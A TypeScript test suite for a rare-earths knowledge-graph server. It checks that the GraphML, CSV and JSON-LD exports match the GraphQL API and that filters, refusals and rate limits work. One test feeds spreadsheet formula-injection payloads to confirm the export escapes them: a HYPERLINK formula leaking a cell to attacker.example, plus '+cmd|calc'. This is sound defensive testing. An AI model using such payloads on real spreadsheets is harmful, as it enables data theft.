import { readFile } from 'node:fs/promises';
import { createServer, get, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { parse as parseCsv } from 'csv-parse/sync';
import graphology from 'graphology';
import { parse as parseGraphml } from 'graphology-graphml';
import jsonld, { type JsonLdDocument, type Options } from 'jsonld';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AS_EDITOR, WRITE_ENV } from '../scripts/support/credentials.js';
import { startTestServer, type TestServer } from '../scripts/support/test-server.js';
import { csvCell } from '../src/server/export/csv.js';
import { xmlText } from '../src/server/export/graphml.js';
import { ClientGone, ResponseSink } from '../src/server/export/response-sink.js';
import { memoryFixture, STORE_FIXTURES, useApi } from './support/stores.js';

/*
 * The exports (GET /export/graph.graphml, nodes.csv, edges.csv, graph.jsonld), on both stores,
 * read back with real parsers (graphology-graphml, csv-parse, the jsonld processor with the
 * bundled context and a loader that never fetches) and checked against the GraphQL API: counts,
 * values and citations; the filters; refusals; formula escaping; retracted facts left out; the
 * rate-limit charge by size class. And the sink's backpressure, on a real socket.
 */

const CONTEXT_FILE = 'src/server/export/context.jsonld';
const RDF = 'http://www.w3.org/1999/02/22-rdf-syntax-ns#';
const PROV = 'http://www.w3.org/ns/prov#';
const REG = 'urn:rare-earths-graph:vocab:';
const SCHEMA = 'https://schema.org/';

/** A CSV record by column name (every row has an id). */
type Row = Record<string, string> & { id: string };
interface Citation {
  sourceId: string;
  quote?: string;
  locator?: string;
}
interface GqlRel {
  id: string;
  type: string;
  to: { id: string; kind: string };
}

async function fetchText(url: string): Promise<{ status: number; headers: Headers; text: string }> {
  const res = await fetch(url);
  return { status: res.status, headers: res.headers, text: await res.text() };
}

const csvRows = (text: string): Row[] => parseCsv<Row>(text, { columns: true });

/** The GraphQL API's view: every entity (id, kind) and every entity's outgoing relationships under a filter. */
async function viaGraphql(
  api: TestServer,
  filter: { types?: string[]; asOf?: string } = {},
): Promise<{ entities: { id: string; kind: string }[]; relationships: (GqlRel & { from: string })[] }> {
  const entities: { id: string; kind: string }[] = [];
  const relationships: (GqlRel & { from: string })[] = [];
  let after: string | null = null;
  for (;;) {
    const data: any = await api.data(
      `query($after: String, $types: [RelationType!], $asOf: Date) {
        entities(first: 100, after: $after) {
          pageInfo { hasNextPage endCursor }
          nodes { id kind relationships(direction: OUT, first: 100, types: $types, asOf: $asOf) {
            totalCount nodes { id type to { id kind } } } }
        }
      }`,
      { after, types: filter.types ?? null, asOf: filter.asOf ?? null },
    );
    for (const e of data.entities.nodes) {
      entities.push({ id: e.id, kind: e.kind });
      expect(e.relationships.nodes.length).toBe(e.relationships.totalCount);
      for (const r of e.relationships.nodes) relationships.push({ ...r, from: e.id });
    }
    if (!data.entities.pageInfo.hasNextPage) break;
    after = data.entities.pageInfo.endCursor;
  }
  return { entities, relationships };
}

/** A relationship's citations as the GraphQL API gives them, in the export form. */
async function gqlCitations(api: TestServer, id: string): Promise<Citation[]> {
  const { relationship } = await api.data(
    `query($id: ID!) { relationship(id: $id) { citations { quote locator source { id } } } }`,
    { id },
  );
  return relationship.citations.map((c: any) => ({
    sourceId: c.source.id,
    ...(c.quote !== null && { quote: c.quote }),
    ...(c.locator !== null && { locator: c.locator }),
  }));
}

const sorted = (xs: Iterable<string>) => [...xs].sort();

/** Expands a JSON-LD export with the bundled context; any other address fails (nothing is fetched). */
async function expandJsonld(url: string, text: string): Promise<any[]> {
  const context = JSON.parse(await readFile(CONTEXT_FILE, 'utf8'));
  const fetched: string[] = [];
  const documentLoader = (address: string) => {
    fetched.push(address);
    if (address !== `${url}/export/context.jsonld`) throw new Error(`no fetching: ${address}`);
    return Promise.resolve({ contextUrl: undefined, documentUrl: address, document: context });
  };
  // safe mode: a term the context does not define, or any other lossy step, is an error.
  const options: Options.Expand & { safe: boolean } = { documentLoader, safe: true };
  const expanded: any[] = await jsonld.expand(JSON.parse(text) as JsonLdDocument, options);
  expect(fetched).toEqual([`${url}/export/context.jsonld`]);
  return expanded;
}

const types = (node: any): string[] => node['@type'] ?? [];
const value = (node: any, iri: string) => node[iri]?.[0]?.['@value'] ?? node[iri]?.[0]?.['@id'];

describe.each(STORE_FIXTURES)('exports on the $name store', (fixture) => {
  const ctx = useApi(fixture, { ...WRITE_ENV, MAX_COST: '1000000' });

  it('GraphML holds every entity and live relationship the API has, with typed values and citations', async () => {
    const res = await fetchText(`${ctx.api.url}/export/graph.graphml`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('application/graphml+xml; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="graph.graphml"');
    const graph = parseGraphml(graphology.MultiDirectedGraph, res.text);
    const api = await viaGraphql(ctx.api);
    expect(graph.order).toBe(api.entities.length);
    expect(graph.size).toBe(api.relationships.length);
    expect(sorted(graph.edges())).toEqual(sorted(api.relationships.map((r) => r.id)));
    expect(graph.type).toBe('directed');

    const office = 'holds-office:scott-bessent:us-treasury:treasury-secretary';
    expect(graph.source(office)).toBe('scott-bessent');
    expect(graph.target(office)).toBe('us-treasury');
    const attrs = graph.getEdgeAttributes(office);
    expect(attrs.type).toBe('HOLDS_OFFICE');
    expect(attrs.title).toBe('Treasury Secretary');
    expect(JSON.parse(attrs.citations)).toEqual(await gqlCitations(ctx.api, office));
    expect(JSON.parse(attrs.citations)[0].quote).toBe(
      'Treasury Secretary Scott Bessent said the Trump administration is ready to use',
    );
    expect(graph.getNodeAttributes('scott-bessent')).toMatchObject({
      name: 'Scott Bessent',
      label: 'Scott Bessent',
      kind: 'PERSON',
    });
    // Typed keys come back as numbers: a material's atomic number, a production figure's year and volume.
    expect(graph.getNodeAttribute('dysprosium', 'atomicNumber')).toBe(66);
    const { entity } = await ctx.api.data(
      `{ entity(id: "china") { relationships(direction: OUT, types: [PRODUCES], first: 100) { nodes { id year volume } } } }`,
    );
    const figure = entity.relationships.nodes.find((r: any) => r.year !== null && r.volume !== null);
    expect(graph.getEdgeAttribute(figure.id, 'year')).toBe(figure.year);
    expect(graph.getEdgeAttribute(figure.id, 'volume')).toBe(figure.volume);
  });

  it('nodes.csv and edges.csv parse as RFC 4180 with one row per entity and per relationship, citations included', async () => {
    const nodes = await fetchText(`${ctx.api.url}/export/nodes.csv`);
    const edges = await fetchText(`${ctx.api.url}/export/edges.csv`);
    for (const r of [nodes, edges])
      expect(r.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(nodes.text.split('\r\n')[0]).toMatch(/^id,name,kind,aliases,description,/);
    expect(edges.text.split('\r\n')[0]).toMatch(/^id,source,target,type,title,.*,sources,citations$/);
    const nodeRows = csvRows(nodes.text);
    const edgeRows = csvRows(edges.text);
    const api = await viaGraphql(ctx.api);
    expect(sorted(nodeRows.map((r) => r.id))).toEqual(sorted(api.entities.map((e) => e.id)));
    expect(sorted(edgeRows.map((r) => r.id))).toEqual(sorted(api.relationships.map((r) => r.id)));

    const bessent = nodeRows.find((r) => r.id === 'scott-bessent')!;
    expect(bessent).toMatchObject({ name: 'Scott Bessent', kind: 'PERSON' });
    const { entity } = await ctx.api.data(`{ entity(id: "scott-bessent") { aliases } }`);
    expect(JSON.parse(bessent.aliases!)).toEqual(entity.aliases);
    const rel = 'issued:china:mofcom-announcement-62';
    const row = edgeRows.find((r) => r.id === rel)!;
    expect(row).toMatchObject({ source: 'china', target: 'mofcom-announcement-62', type: 'ISSUED' });
    const citations = await gqlCitations(ctx.api, rel);
    expect(citations).toHaveLength(2);
    expect(JSON.parse(row.citations!)).toEqual(citations);
    expect(row.sources).toBe([...new Set(citations.map((c) => c.sourceId))].join(' '));
  });

  it('JSON-LD expands with the bundled context: schema.org entities, statements derived from their sources (PROV-O) with the quote', async () => {
    const context = await fetchText(`${ctx.api.url}/export/context.jsonld`);
    expect(context.headers.get('content-type')).toBe('application/ld+json; charset=utf-8');
    expect(JSON.parse(context.text)).toEqual(JSON.parse(await readFile(CONTEXT_FILE, 'utf8')));

    const res = await fetchText(`${ctx.api.url}/export/graph.jsonld`);
    expect(res.headers.get('content-type')).toBe('application/ld+json; charset=utf-8');
    const expanded = await expandJsonld(ctx.api.url, res.text);
    const statements = expanded.filter((n) => types(n).includes(`${RDF}Statement`));
    const entities = expanded.filter((n) => !types(n).includes(`${RDF}Statement`));
    const api = await viaGraphql(ctx.api);
    expect(entities).toHaveLength(api.entities.length);
    expect(statements).toHaveLength(api.relationships.length);

    const office = statements.find(
      (n) =>
        n['@id'] ===
        'urn:rare-earths-graph:relationship:holds-office:scott-bessent:us-treasury:treasury-secretary',
    );
    expect(types(office)).toEqual([`${RDF}Statement`, `${PROV}Entity`]);
    expect(value(office, `${RDF}subject`)).toBe('urn:rare-earths-graph:entity:scott-bessent');
    expect(value(office, `${RDF}predicate`)).toBe(`${REG}HOLDS_OFFICE`);
    expect(value(office, `${RDF}object`)).toBe('urn:rare-earths-graph:entity:us-treasury');
    expect(value(office, `${REG}title`)).toBe('Treasury Secretary');
    const [citation] = await gqlCitations(
      ctx.api,
      'holds-office:scott-bessent:us-treasury:treasury-secretary',
    );
    const source = `urn:rare-earths-graph:entity:${citation!.sourceId}`;
    expect(office[`${PROV}wasDerivedFrom`]).toEqual([{ '@id': source }]);
    const [derivation] = office[`${PROV}qualifiedDerivation`];
    expect(types(derivation)).toEqual([`${PROV}Derivation`]);
    expect(value(derivation, `${PROV}entity`)).toBe(source);
    expect(value(derivation, `${REG}quote`)).toBe(citation!.quote);

    const bessent = entities.find((n) => n['@id'] === 'urn:rare-earths-graph:entity:scott-bessent');
    expect(types(bessent)).toEqual([`${SCHEMA}Person`]);
    expect(value(bessent, `${SCHEMA}name`)).toBe('Scott Bessent');
    const cited = entities.find((n) => n['@id'] === source);
    expect(types(cited)).toEqual([`${SCHEMA}CreativeWork`, `${PROV}Entity`]);
  });

  it('a neighbourhood export holds what the neighborhood query finds, in every format', async () => {
    const { neighborhood } = await ctx.api.data(
      `{ neighborhood(id: "scott-bessent", depth: 2, limit: 500) { truncated nodes { entity { id } } relationships { id } } }`,
    );
    expect(neighborhood.truncated).toBe(false);
    const ids = sorted(neighborhood.nodes.map((n: any) => n.entity.id));
    const rels = sorted(neighborhood.relationships.map((r: any) => r.id));
    expect(rels.length).toBeGreaterThan(10);
    const q = '?around=scott-bessent&depth=2';
    const graphml = await fetchText(`${ctx.api.url}/export/graph.graphml${q}`);
    expect(graphml.headers.get('content-disposition')).toBe(
      'attachment; filename="scott-bessent-graph.graphml"',
    );
    const graph = parseGraphml(graphology.MultiDirectedGraph, graphml.text);
    expect(sorted(graph.nodes())).toEqual(ids);
    expect(sorted(graph.edges())).toEqual(rels);
    const nodes = csvRows((await fetchText(`${ctx.api.url}/export/nodes.csv${q}`)).text);
    expect(sorted(nodes.map((r) => r.id))).toEqual(ids);
    const edges = csvRows((await fetchText(`${ctx.api.url}/export/edges.csv${q}`)).text);
    expect(sorted(edges.map((r) => r.id))).toEqual(rels);
    for (const e of edges) expect(JSON.parse(e.citations!)).toEqual(await gqlCitations(ctx.api, e.id));
    const expanded = await expandJsonld(
      ctx.api.url,
      (await fetchText(`${ctx.api.url}/export/graph.jsonld${q}`)).text,
    );
    expect(expanded).toHaveLength(ids.length + rels.length);
  });

  it('filters by relationship type, entity kind and day; a relationship whose end is filtered out is left out', async () => {
    const byType = await viaGraphql(ctx.api, { types: ['HOLDS_OFFICE', 'LEADS'] });
    const typed = csvRows((await fetchText(`${ctx.api.url}/export/edges.csv?types=HOLDS_OFFICE,leads`)).text);
    expect(sorted(typed.map((r) => r.id))).toEqual(sorted(byType.relationships.map((r) => r.id)));
    expect(new Set(typed.map((r) => r.type))).toEqual(new Set(['HOLDS_OFFICE', 'LEADS']));

    const kinds = new Set(['PERSON', 'COUNTRY']);
    const all = await viaGraphql(ctx.api);
    const kept = new Set(all.entities.filter((e) => kinds.has(e.kind)).map((e) => e.id));
    const expected = all.relationships.filter((r) => kept.has(r.from) && kept.has(r.to.id)).map((r) => r.id);
    // Persons hold offices in organisations too: those relationships lose an end and are left out.
    expect(all.relationships.some((r) => kept.has(r.from) && !kept.has(r.to.id))).toBe(true);
    const graph = parseGraphml(
      graphology.MultiDirectedGraph,
      (await fetchText(`${ctx.api.url}/export/graph.graphml?kinds=PERSON,COUNTRY`)).text,
    );
    expect(sorted(graph.nodes())).toEqual(sorted(kept));
    expect(sorted(graph.edges())).toEqual(sorted(expected));
    expect(expected.length).toBeGreaterThan(0);

    // On 2027-01-01 the one-year suspensions (to 2026-11-10) no longer hold.
    const day = '2027-01-01';
    const onDay = await viaGraphql(ctx.api, { asOf: day });
    const dated = csvRows((await fetchText(`${ctx.api.url}/export/edges.csv?asOf=${day}`)).text);
    expect(sorted(dated.map((r) => r.id))).toEqual(sorted(onDay.relationships.map((r) => r.id)));
    expect(dated.length).toBeLessThan(all.relationships.length);
    expect(dated.map((r) => r.id)).not.toContain('suspends:mofcom-announcement-70:mofcom-announcement-57');
    expect(all.relationships.map((r) => r.id)).toContain(
      'suspends:mofcom-announcement-70:mofcom-announcement-57',
    );
    // Entities stay whatever the day.
    const nodes = csvRows((await fetchText(`${ctx.api.url}/export/nodes.csv?asOf=${day}`)).text);
    expect(nodes).toHaveLength(all.entities.length);
  });

  it('refuses an unknown centre with NOT_FOUND (404) and a bad filter with BAD_USER_INPUT (400), GraphQL-shaped', async () => {
    const refusals: [string, number, string, RegExp][] = [
      ['graph.graphml?around=no-such-entity', 404, 'NOT_FOUND', /No entity with id "no-such-entity"/],
      ['nodes.csv?asOf=2025-13-01', 400, 'BAD_USER_INPUT', /"asOf" must be a full day/],
      ['edges.csv?asOf=2025-11', 400, 'BAD_USER_INPUT', /"asOf" must be a full day/],
      ['graph.jsonld?kinds=PERSON,WIZARD', 400, 'BAD_USER_INPUT', /"kinds" has unknown value "WIZARD"/],
      ['graph.jsonld?types=OWNS', 400, 'BAD_USER_INPUT', /"types" has unknown value "OWNS"/],
      ['graph.graphml?around=china&depth=4', 400, 'BAD_USER_INPUT', /"depth" must be an integer from 1 to 3/],
      ['graph.graphml?around=china&depth=one', 400, 'BAD_USER_INPUT', /"depth" must be an integer/],
      ['graph.graphml?depth=2', 400, 'BAD_USER_INPUT', /"depth" needs "around"/],
      ['nodes.csv?kind=PERSON', 400, 'BAD_USER_INPUT', /Unknown parameter "kind"/],
      ['nodes.csv?asOf=2025-01-01&asOf=2026-01-01', 400, 'BAD_USER_INPUT', /"asOf" must be given once/],
    ];
    for (const [path, status, code, message] of refusals) {
      const res = await fetch(`${ctx.api.url}/export/${path}`);
      expect(res.status, path).toBe(status);
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      expect(res.headers.get('content-disposition')).toBeNull();
      const body = (await res.json()) as any;
      expect(body).toEqual({
        errors: [
          {
            message: expect.stringMatching(message),
            extensions: { code, correlationId: res.headers.get('x-request-id') },
          },
        ],
      });
    }
  });

  it('escapes text a spreadsheet would run as a formula, written through the API by an editor', async () => {
    const name = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")';
    await ctx.api.data(
      `mutation($input: EntityInput!, $note: String!) { upsertEntity(input: $input, note: $note) { entity { id } } }`,
      {
        input: {
          id: 'formula-corp',
          kind: 'ORGANIZATION',
          name,
          aliases: ['+cmd|calc', '@SUM(A1:A9)', '-2+3'],
          description: 'A record, written to test formula escaping',
        },
        note: 'formula-injection test',
      },
      AS_EDITOR,
    );
    const nodes = await fetchText(`${ctx.api.url}/export/nodes.csv`);
    // The raw cell: a leading quote, then RFC 4180 quoting (the cell holds quotes and a comma).
    expect(nodes.text).toContain(
      `formula-corp,"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click for details"")",ORGANIZATION,`,
    );
    const row = csvRows(nodes.text).find((r) => r.id === 'formula-corp')!;
    expect(row.name).toBe(`'${name}`);
    expect(row.aliases).toBe('["+cmd|calc","@SUM(A1:A9)","-2+3"]');
    // Formats no spreadsheet runs keep the text as written.
    const graph = parseGraphml(
      graphology.MultiDirectedGraph,
      (await fetchText(`${ctx.api.url}/export/graph.graphml?around=formula-corp`)).text,
    );
    expect(graph.getNodeAttribute('formula-corp', 'name')).toBe(name);
  });

  it('leaves a retracted relationship out of every format, and its neighbourhood', async () => {
    const id = 'made-at:bessent-warp-speed:bessent-cnn-interview';
    const before = await fetchText(`${ctx.api.url}/export/edges.csv`);
    expect(csvRows(before.text).map((r) => r.id)).toContain(id);
    await ctx.api.data(
      `mutation($id: ID!, $note: String!) { retractRelationship(id: $id, note: $note) { relationship { id retracted } } }`,
      { id, note: 'retraction test' },
      AS_EDITOR,
    );
    const { relationship } = await ctx.api.data(`query($id: ID!) { relationship(id: $id) { retracted } }`, {
      id,
    });
    expect(relationship.retracted).toBe(true);
    for (const q of ['', '?around=bessent-warp-speed']) {
      const edges = csvRows((await fetchText(`${ctx.api.url}/export/edges.csv${q}`)).text);
      expect(edges.map((r) => r.id)).not.toContain(id);
      const graphml = await fetchText(`${ctx.api.url}/export/graph.graphml${q}`);
      expect(parseGraphml(graphology.MultiDirectedGraph, graphml.text).hasEdge(id)).toBe(false);
      const jsonldText = (await fetchText(`${ctx.api.url}/export/graph.jsonld${q}`)).text;
      expect(jsonldText).not.toContain(id);
    }
    const after = csvRows((await fetchText(`${ctx.api.url}/export/edges.csv`)).text);
    expect(after).toHaveLength(csvRows(before.text).length - 1);
  });

  describe('the rate limit', () => {
    const servers: TestServer[] = [];
    /** A server over the same store whose bucket holds `burst` points and refills 1 a minute. */
    const start = async (burst: number) => {
      const server = await startTestServer(ctx.store, {
        RATE_LIMIT_PER_MINUTE: '1',
        RATE_LIMIT_BURST: String(burst),
      });
      servers.push(server);
      return server;
    };
    afterAll(async () => {
      for (const server of servers) await server.close();
    });

    it('charges a whole-graph export 50,000 points and a neighbourhood 2,000 a hop of depth', async () => {
      // 52,001 points: the whole graph (50,000), then a depth-1 neighbourhood (2,000) leave 1.
      let limited = await start(52_001);
      expect((await fetch(`${limited.url}/export/nodes.csv`)).status).toBe(200);
      expect((await fetch(`${limited.url}/export/graph.jsonld?around=china`)).status).toBe(200);
      const refused = await fetch(`${limited.url}/export/graph.jsonld?around=china`);
      expect(refused.status).toBe(429);
      expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
      expect(((await refused.json()) as any).errors[0]).toMatchObject({
        message: expect.stringMatching(/^This export costs 2000; retry after \d+ s\.$/),
        extensions: { code: 'RATE_LIMITED' },
      });

      // 6,000 points pay exactly a depth-3 neighbourhood: the next request finds the bucket empty.
      limited = await start(6_000);
      expect((await fetch(`${limited.url}/export/edges.csv?around=china&depth=3`)).status).toBe(200);
      const next = await fetch(`${limited.url}/export/edges.csv?around=china&depth=1`);
      expect(next.status).toBe(429);
      expect(((await next.json()) as any).errors[0].message).toMatch(/^Too many requests; retry after/);

      // A bucket below a whole-graph export's price refuses it before any work.
      limited = await start(49_000);
      const whole = await fetch(`${limited.url}/export/graph.graphml`);
      expect(whole.status).toBe(429);
      expect(((await whole.json()) as any).errors[0].message).toMatch(/^This export costs 50000;/);
    });
  });
});

describe("the README's export examples", () => {
  const ctx = useApi(memoryFixture);

  it('give the output the README shows', async () => {
    const readme = await readFile('README.md', 'utf8');
    const section = readme.slice(readme.indexOf('\n## Exports\n'), readme.indexOf('\n## Embedding'));
    const examples = [
      ...section.matchAll(
        /```console\n\$ curl -s 'http:\/\/localhost:4000(\/export\/[^']+)'(?: \| (head|tail) -(\d+))?\n([\s\S]*?)\n```/g,
      ),
    ];
    expect(examples).toHaveLength(3);
    for (const [, path, cut, count, shown] of examples) {
      const res = await fetchText(`${ctx.api.url}${path!}`);
      expect(res.status).toBe(200);
      let lines = res.text.replace(/\r\n/g, '\n').replace(/\n$/, '').split('\n');
      if (cut === 'head') lines = lines.slice(0, Number(count));
      if (cut === 'tail') lines = lines.slice(-Number(count));
      expect(lines.join('\n').replaceAll(ctx.api.url, 'http://localhost:4000'), path).toBe(shown);
    }
  });
});

describe('CSV and XML text', () => {
  it('escapes formula starts and quotes cells by RFC 4180; numbers stay numbers', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+1')).toBe("'+1");
    expect(csvCell('-1')).toBe("'-1");
    expect(csvCell('@x')).toBe("'@x");
    expect(csvCell('\tcmd')).toBe("'\tcmd");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(true)).toBe('true');
    expect(csvCell(undefined)).toBe('');
  });

  it('escapes XML markup and drops characters XML 1.0 cannot hold', () => {
    expect(xmlText('a < b & "c" > d')).toBe('a &lt; b &amp; &quot;c&quot; &gt; d');
    expect(xmlText('bell\u0007 tab\t nul\u0000 lone\uD800 ok\u{1F600}')).toBe(
      'bell tab\t nul lone ok\u{1F600}',
    );
  });
});

describe('the response sink', () => {
  let server: Server;
  let url: string;
  const seen: { maxBuffered: number; outcome: string } = { maxBuffered: 0, outcome: '' };
  const CHUNK = 'x'.repeat(64 * 1024);
  const CHUNKS = 200;

  beforeAll(async () => {
    server = createServer((req, res) => {
      const sink = new ResponseSink(res as any);
      void (async () => {
        try {
          for (let i = 0; i < CHUNKS; i++) {
            await sink.write(CHUNK); // flushes every time: a chunk fills the buffer
            seen.maxBuffered = Math.max(seen.maxBuffered, res.writableLength);
          }
          await sink.end();
          seen.outcome = 'ended';
        } catch (e) {
          seen.outcome = e instanceof ClientGone ? 'client gone' : String(e);
        }
      })();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  });
  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

  it('waits for a slow reader instead of buffering the export', async () => {
    seen.maxBuffered = 0;
    const received = await new Promise<number>((resolve, reject) => {
      get(url, (res) => {
        let bytes = 0;
        res.on('data', (chunk: Buffer) => {
          bytes += chunk.length;
          // Read slowly: pause after each chunk, so the server's socket fills up.
          res.pause();
          setTimeout(() => res.resume(), 1);
        });
        res.on('end', () => resolve(bytes));
        res.on('error', reject);
      }).on('error', reject);
    });
    expect(received).toBe(CHUNK.length * CHUNKS);
    expect(seen.outcome).toBe('ended');
    // 12.5 MiB went out, never more than a couple of chunks held in the response at once.
    expect(seen.maxBuffered).toBeLessThanOrEqual(2 * CHUNK.length);
  });

  it('stops writing once the reader hangs up', async () => {
    seen.outcome = '';
    await new Promise<void>((resolve, reject) => {
      const req = get(url, (res) => {
        res.once('data', () => {
          req.destroy();
          resolve();
        });
      });
      req.on('error', () => undefined);
      setTimeout(() => reject(new Error('no data')), 10_000);
    });
    await expect.poll(() => seen.outcome).toBe('client gone');
  });
});
